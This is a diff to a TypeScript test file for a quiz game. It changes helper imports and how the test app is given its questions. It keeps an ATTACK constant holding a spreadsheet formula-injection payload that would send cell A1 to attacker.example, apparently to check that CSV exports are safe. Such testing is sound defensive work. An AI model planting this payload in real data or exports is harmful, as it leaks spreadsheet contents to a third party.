@@ -6,14 +6,14 @@ import Papa from "papaparse";
 import type { Question } from "../../src/game/types";
 import { call, startTestApp, type TestApp } from "../support/app";
 import { FakeClock } from "../support/fake-clock";
-import { exactJudge, party, teamSelect, waitForPhase } from "../api/helpers";
+import { exactJudge, party, questionsFrom, teamSelect, waitForPhase } from "../support/rest";
 
 const ATTACK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for bonus")';
 const ONE: Question[] = [{ category: "Space", question: "Which planet is called the Red Planet?", answer: "Mars", aliases: [] }];
 
 let app: TestApp;
 beforeAll(async () => {
-  app = await startTestApp({}, { clock: new FakeClock(), questions: { pick: async () => ONE }, judge: exactJudge });
+  app = await startTestApp({}, { clock: new FakeClock(), questions: questionsFrom(ONE), judge: exactJudge });
 });
 afterAll(() => app.dispose());
 
